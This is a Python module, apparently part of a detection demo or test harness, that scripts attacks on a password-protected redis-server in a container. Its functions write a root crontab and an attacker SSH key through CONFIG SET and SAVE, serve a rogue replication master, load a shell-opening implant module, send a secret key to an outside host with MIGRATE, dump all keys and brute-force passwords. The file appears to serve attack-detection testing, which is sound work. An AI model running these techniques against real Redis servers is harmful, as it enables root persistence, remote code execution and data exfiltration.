"""Break-ins into redis-server by who knows its password, or guesses it."""

import os
import socket
import tempfile

import redis
from demo_files.docker import docker

from .attacker import Home
from .base import Attack, AttackFailed, Instance
from .implant import build_implant

PASSWORD = "correct-horse"
SERVER = "process /usr/bin/redis-check-rdb"


def _client(instance: Instance) -> redis.Redis:
    return redis.Redis("127.0.0.1", instance.port, password=PASSWORD, socket_timeout=30)


def write_crontab(instance: Instance) -> None:
    with _client(instance) as client:
        client.set("x", "\n\n* * * * * root id\n\n")
        client.config_set("dir", "/var/spool/cron/crontabs")
        client.config_set("dbfilename", "root")
        client.save()
    if b"* * * * *" not in instance.read("/var/spool/cron/crontabs/root"):
        raise AttackFailed("no crontab was written")


def write_key_in_background(instance: Instance) -> None:
    with _client(instance) as client:
        client.set("x", "\n\nssh-ed25519 AAAA attacker\n\n")
        client.config_set("dir", "/root/.ssh")
        client.config_set("dbfilename", "authorized_keys")
        client.bgsave()


def serve_as_master(library: bytes):
    """What a replica is told by a master whose whole database is a library."""

    def talk(connection: socket.socket) -> bytes:
        while request := connection.recv(4096):
            if b"PSYNC" in request:
                connection.sendall(b"+FULLRESYNC " + b"a" * 40 + b" 1\r\n$%d\r\n" % len(library) + library)
                return b"delivered"
            # Each command is answered, and a replica sends several at once.
            connection.sendall(b"+PONG\r\n" if b"PING" in request else b"+OK\r\n" * max(1, request.count(b"REPLCONF")))
        return b""

    return talk


def follow_rogue_master(instance: Instance) -> None:
    """Its data are replaced by what the attacker sends, here a library. Redis 7 does not load it: it is not executable."""
    with Home(b"go\n") as home, Home(talk=serve_as_master(build_implant(home))) as master, _client(instance) as client:
        client.config_set("dbfilename", "implant.so")
        client.slaveof(master.host, master.port)
        master.must_receive(b"delivered", 20)
        client.slaveof("NO", "ONE")


def load_module(instance: Instance, shell: bool) -> None:
    """The library came another way, by a shared volume say."""
    with Home(b"go\n") as home, tempfile.NamedTemporaryFile(suffix=".so") as library:
        library.write(build_implant(home, shell))
        library.flush()
        os.chmod(library.name, 0o755)
        docker("cp", library.name, f"{instance.container.id}:/data/implant.so")
        try:
            with _client(instance) as client:
                client.execute_command("MODULE", "LOAD", "/data/implant.so")
        except redis.ResponseError:
            pass  # it ran, and said that it cannot be loaded
        home.must_receive(b"root:x:0")


def load_quiet_module(instance: Instance) -> None:
    load_module(instance, shell=False)


def load_module_with_shell(instance: Instance) -> None:
    load_module(instance, shell=True)


def migrate(instance: Instance) -> None:
    """A key goes to another address by MIGRATE."""

    def take(connection: socket.socket) -> bytes:
        received = connection.recv(65536)
        connection.sendall(b"+OK\r\n+OK\r\n")
        return received

    with Home(talk=take) as home, _client(instance) as client:
        client.set("secret", "card-4242")
        try:
            client.execute_command("MIGRATE", home.host, home.port, "secret", 0, 3000, "COPY")
        except redis.ResponseError:
            pass
        home.must_receive(b"card-4242")


def dump_everything(instance: Instance) -> None:
    with _client(instance) as client:
        found = 0
        for key in client.scan_iter(count=500):
            client.dump(key)
            found += 1
        if not found:
            raise AttackFailed("no keys")


def guess_passwords(instance: Instance) -> None:
    for number in range(1000):
        with redis.Redis("127.0.0.1", instance.port, password=f"guess{number}", socket_timeout=30) as client:
            try:
                client.ping()
            except (redis.AuthenticationError, redis.ResponseError) as error:
                if "WRONGPASS" not in str(error):
                    raise
                continue
            raise AttackFailed("a guess was right")


ATTACKS = (
    Attack("CONFIG SET dir, SAVE", "writes a crontab from the main process", write_crontab,
           ("crontabs", SERVER), reliable=True),
    Attack("CONFIG SET dir, BGSAVE", "writes authorized_keys from the child that always saves; no new call",
           write_key_in_background, (".ssh", SERVER)),
    Attack("SLAVEOF a rogue master", "connects to it and takes its data for its own; no new program", follow_rogue_master,
           (SERVER,)),
    Attack("MODULE LOAD, shell", "the library runs a shell", load_module_with_shell, ("/usr/bin/dash",), reliable=True),
    Attack("MODULE LOAD, in process", "the library connects out and reads /etc/passwd; no new program",
           load_quiet_module, (SERVER,), reliable=True),
    Attack("MIGRATE to another host", "redis itself sends a key to another address", migrate,
           (SERVER,), reliable=True),
    Attack("dump of all keys", "SCAN and DUMP over an ordinary connection; nothing new", dump_everything,
           (SERVER,)),
    Attack("password guessing", "1000 wrong passwords, a connection each", guess_passwords,
           (SERVER,)),
)
